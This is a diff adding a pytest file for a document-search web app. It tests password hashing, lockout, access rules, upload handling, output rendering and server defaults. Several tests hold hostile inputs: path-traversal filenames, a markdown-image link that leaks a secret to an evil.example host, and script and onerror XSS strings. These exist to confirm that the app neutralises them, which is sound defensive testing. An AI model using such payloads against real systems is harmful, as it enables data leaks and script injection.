@@ -1,0 +1,217 @@
+"""The web app's parts without a browser: users, feedback, access rule, uploads, safe rendering, server guards."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+from markdown_it import MarkdownIt
+
+from conftest import SAMPLE, make_pdf, run_cli
+from workbench.access import ADMIN, Principal, can_read, filters_for
+from workbench.errors import NotFoundError, WorkbenchError
+from workbench.feedback import FeedbackStore
+from workbench.records import Answer, Citation, Document
+from workbench.uploads import safe_filename, store_upload
+from workbench.users import UserStore
+
+from apps import render
+
+
+# ---- users ---------------------------------------------------------------------------------------
+
+def test_users_are_stored_with_argon2_hashes_and_verified(tmp_path):
+    store = UserStore(tmp_path)
+    store.add("alice", "correct horse", "staff,admin")
+    import sqlite3
+
+    [(stored,)] = sqlite3.connect(store.path).execute("SELECT password_hash FROM users").fetchall()
+    assert stored.startswith("$argon2id$") and "correct horse" not in stored
+    assert store.verify("alice", "correct horse").groups == ("staff", "admin")
+    assert store.verify("alice", "wrong") is None
+    assert store.verify("nobody", "correct horse") is None
+    with pytest.raises(WorkbenchError, match="already exists"):
+        store.add("alice", "another password")
+    with pytest.raises(WorkbenchError, match="too short"):
+        store.add("bob", "short")
+    with pytest.raises(WorkbenchError, match="user name"):
+        store.add("../etc", "long enough pw")
+    store.set_password("alice", "new password!")
+    assert store.verify("alice", "correct horse") is None and store.verify("alice", "new password!")
+    store.remove("alice")
+    assert store.get("alice") is None and store.list() == []
+
+
+def test_repeated_failures_lock_the_name_out(tmp_path):
+    store = UserStore(tmp_path, max_attempts=3, lockout_s=60)
+    store.add("carol", "right password")
+    for _ in range(3):
+        assert store.verify("carol", "guess") is None
+    assert store.locked("carol")
+    assert store.verify("carol", "right password") is None  # even the right password, while locked
+    assert UserStore(tmp_path).verify("carol", "right password")  # lockout is per process and time-bound
+
+
+def test_users_commands(tmp_path):
+    idx = str(tmp_path / "idx")
+    add = run_cli("users", "add", "dave", "--groups", "finance", "--password-stdin", "--index", idx,
+                  input="dave's password\n")
+    assert add.returncode == 0 and "added dave" in add.stdout
+    assert run_cli("users", "list", "--index", idx).stdout.split() == ["dave", "finance"]
+    listed = run_cli("users", "list", "--json", "--index", idx)
+    assert '"groups": [\n      "finance"' in listed.stdout
+    short = run_cli("users", "passwd", "dave", "--password-stdin", "--index", idx, input="x\n")
+    assert short.returncode == 2 and "too short" in short.stderr
+    assert run_cli("users", "passwd", "dave", "--password-stdin", "--index", idx, input="a new password\n").returncode == 0
+    assert UserStore(tmp_path / "idx").verify("dave", "a new password")
+    assert run_cli("users", "groups", "dave", "finance,admin", "--index", idx).returncode == 0
+    assert UserStore(tmp_path / "idx").get("dave").groups == ("finance", "admin")
+    gone = run_cli("users", "remove", "erin", "--index", idx)
+    assert gone.returncode == 2 and "no user 'erin'" in gone.stderr
+    assert run_cli("users", "remove", "dave", "--index", idx).returncode == 0
+    assert "no users yet" in run_cli("users", "list", "--index", idx).stdout
+
+
+# ---- access rule, feedback -----------------------------------------------------------------------
+
+def _doc(groups=()) -> Document:
+    return Document("d1", "default", "/x.pdf", "", "X", "pdf", 1, 0.0, "h", groups=groups)
+
+
+def test_one_access_rule_for_search_and_single_documents():
+    staff = Principal("sam", ("staff",))
+    assert can_read(ADMIN, _doc(("finance",))) and can_read(None, _doc(("finance",)))
+    assert can_read(staff, _doc(("staff", "hr"))) and not can_read(staff, _doc(("finance",)))
+    assert can_read(staff, _doc(()))  # until access control: ungrouped documents are shared
+    f = filters_for(staff)
+    assert f.groups == ("staff",) and f.ungrouped
+    assert filters_for(Principal("root", ("admin",), True)).groups is None
+
+
+def test_search_honours_the_principal(make_wb, tmp_path):
+    wb = make_wb()
+    wb.ingest(SAMPLE, progress=False)
+    hits = wb.search("annual leave days", k=3, principal=Principal("sam", ("staff",)))
+    assert hits and hits[0].chunk.title == "Northwind Aero Employee Handbook 2026"
+    view = wb.source(hits[0].chunk.chunk_id, Principal("sam", ("staff",)))
+    assert "annual leave" in view.chunk.text.lower() and view.is_pdf
+    assert wb.page_image(hits[0].chunk.chunk_id).startswith(b"\x89PNG")
+    with pytest.raises(NotFoundError):
+        wb.source(123456789)
+
+
+def test_feedback_keeps_question_answer_citations_and_generation(tmp_path):
+    store = FeedbackStore(tmp_path)
+    c = Citation(1, 42, "d1", "/a.pdf", "", "Handbook", "page 2", 2, "text")
+    answer = Answer("Q?", "It is 25 days [1].", citations=(c, Citation(2, 43, "d2", "/b", "", "B", "", None, "t")),
+                    generation=7)
+    entry_id = store.add("sam", answer, -1, " wrong number ")
+    [entry] = store.list()
+    assert entry.id == entry_id and entry.rating == -1 and entry.comment == "wrong number"
+    assert entry.generation == 7 and entry.question == "Q?" and [x["number"] for x in entry.citations] == [1]
+    with pytest.raises(ValueError):
+        store.add("sam", answer, 0)
+
+
+# ---- uploads -------------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("name, expected", [
+    ("report.pdf", "report.pdf"),
+    ("../../etc/passwd.txt", "passwd.txt"),
+    ("/abs/path/notes.md", "notes.md"),
+    ("..\\..\\windows\\evil.docx", "evil.docx"),
+    (".hidden.csv", "hidden.csv"),
+    ("a\x00b\u202ec.txt", "abc.txt"),
+    ("ｆｕｌｌｗｉｄｔｈ.pdf", "fullwidth.pdf"),
+    ("..", "upload"),
+    ("x" * 300 + ".pdf", "x" * 116 + ".pdf"),
+])
+def test_upload_names_are_neutralised(name, expected):
+    assert safe_filename(name) == expected
+
+
+def test_uploads_land_only_in_the_collection_folder(tmp_path):
+    src = tmp_path / "tmpupload"
+    src.write_text("hello")
+    target = store_upload(tmp_path / "idx", "hr", src, "../../../outside.txt", max_mb=1)
+    assert target == tmp_path / "idx" / "uploads" / "hr" / "outside.txt" and target.read_text() == "hello"
+    with pytest.raises(WorkbenchError, match="not supported"):
+        store_upload(tmp_path / "idx", "hr", src, "tool.exe", max_mb=1)
+    big = tmp_path / "big"
+    big.write_bytes(b"x" * 2_000_000)
+    with pytest.raises(WorkbenchError, match="over the 1 MB upload limit"):
+        store_upload(tmp_path / "idx", "hr", big, "big.txt", max_mb=1)
+    assert sorted(p.name for p in (tmp_path / "idx" / "uploads" / "hr").iterdir()) == ["outside.txt"]
+
+
+def test_upload_indexes_good_files_and_drops_unreadable_ones(make_wb, tmp_path):
+    wb = make_wb()
+    good = make_pdf(tmp_path / "a.pdf", ["Canteen", "The canteen opens at 07:30."])
+    bad = tmp_path / "b.pdf"
+    bad.write_bytes(b"%PDF-1.7 garbage")
+    seen = []
+    report, refused = wb.upload([("menu.pdf", good), ("broken.pdf", bad), ("x.exe", bad)], "food",
+                                on_file=lambda p, e: seen.append((p.rsplit("/", 1)[-1], e is None)))
+    assert [f.path for f in refused] == ["x.exe"]
+    assert [p.rsplit("/", 1)[-1] for p in report.added] == ["menu.pdf"]
+    assert [f.path.rsplit("/", 1)[-1] for f in report.failed] == ["broken.pdf"]
+    assert sorted(seen) == [("broken.pdf", False), ("menu.pdf", True), ("x.exe", False)]
+    assert sorted(p.name for p in (wb.index_dir / "uploads" / "food").iterdir()) == ["menu.pdf"]
+    assert wb.status().collections == {"food": 1}
+
+
+# ---- rendering model output ----------------------------------------------------------------------
+
+def _html(markdown: str) -> str:
+    """Markdown → HTML the way GitHub-style renderers (like the chat's) do, auto-links included."""
+    return MarkdownIt("gfm-like").render(markdown)
+
+
+HOSTILE = ("![x](https://evil.example/leak?q=secret) <img src=https://evil.example/a.png> "
+           "[click](https://evil.example) https://evil.example/x www.evil.example <script>alert(1)</script> **bold**")
+
+
+def test_model_output_cannot_make_images_links_or_html():
+    out = _html(render.answer_markdown(HOSTILE))
+    assert "<img" not in out and "<a " not in out and "<script" not in out and "<strong>" not in out
+    assert "evil.example" in out  # shown as text
+
+
+def test_only_checked_citations_become_links_to_the_viewer():
+    c = Citation(1, 42, "d1", "/a.pdf", "", "Handbook", "page 2", 2, "text")
+    out = _html(render.answer_markdown("Leave is 25 days [1]. See [7].", (c,)))
+    assert re.findall(r'href="([^"]+)"', out) == ["source/42", "source/42"]  # in the text, then the sources line
+    assert "[7]" in out and "Sources:" in out
+    uncited = _html(render.answer_markdown("Leave is 25 days.", (c,)))
+    assert "the model cited none" in uncited and 'href="source/42"' in uncited
+
+
+def test_sources_panel_escapes_document_text():
+    c = Citation(1, 42, "d1", "/a.pdf", "", "<b>Title</b>", "page 2", 2, "<img src=x onerror=alert(1)>")
+    out = render.sources_html(Answer("q", "a [1]", citations=(c,)))
+    assert "<img" not in out and "&lt;img" in out and "href='source/42'" in out
+
+
+# ---- server guards -------------------------------------------------------------------------------
+
+def test_header_sso_is_refused_unless_listening_on_loopback(make_wb):
+    from apps.web import concurrency_for, create_server
+
+    wb = make_wb()
+    web = wb.config.web.model_copy(update={"trusted_user_header": "X-Forwarded-User"})
+    wb.config = wb.config.model_copy(update={"web": web})
+    with pytest.raises(WorkbenchError, match="only safe behind a reverse proxy"):
+        create_server(wb, host="0.0.0.0")
+    assert create_server(wb, host="127.0.0.1") is not None
+    assert concurrency_for(wb) == 1
+
+
+def test_the_app_is_built_with_safe_defaults(make_wb):
+    from apps.web import build_app
+
+    demo = build_app(make_wb())
+    assert demo.analytics_enabled is False
+    assert demo._queue.max_size == 16 and demo._queue.default_concurrency_limit == 1
+    assert demo.api_open is False
+    public = [d for d in demo.fns.values() if d.api_visibility == "public"]
+    assert public == []
